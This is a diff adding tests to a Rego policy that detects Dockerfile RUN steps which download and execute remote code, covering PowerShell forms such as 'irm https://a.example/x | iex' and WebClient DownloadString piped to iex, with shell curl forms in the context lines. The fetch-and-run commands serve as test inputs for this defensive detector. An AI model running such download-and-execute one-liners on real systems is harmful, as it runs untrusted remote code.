@@ -32,3 +32,18 @@ test_what_is_not_run if {
 	messages([command(["echo", "$(curl https://a.example/x)"], false)]) == set()
 	messages([command(["cat", "x"], true), command(["sh", "-c", "$(cat x)"], false)]) == set()
 }
+
+test_powershell_that_runs_what_it_fetches if {
+	powershell("iex ((New-Object Net.WebClient).DownloadString('https://a.example/x'))") == {"a.example"}
+	powershell("Invoke-Restmethod (irm \"https://a.example/x\") | Out-Null") == set()
+	powershell("irm https://a.example/x | iex") == {"a.example"}
+	powershell("Invoke-WebRequest https://a.example/x -OutFile x; msiexec /i x") == set()
+	powershell("(New-Object Net.WebClient).DownloadString('https://a.example/x') > x") == set()
+}
+
+powershell(text) := hosts if {
+	run := {"keyword": "RUN", "text": text, "commands": []}
+	documents := [{"type": "dockerfile", "operation": "update", "content": {"stages": [{"name": "run", "instructions": [run]}]}}]
+	hosts := {trim_prefix(finding.part, "run/") | some finding in piped_download.finding} with input.context.documents as documents
+		with data.settings.config.dockerfile as settings
+}
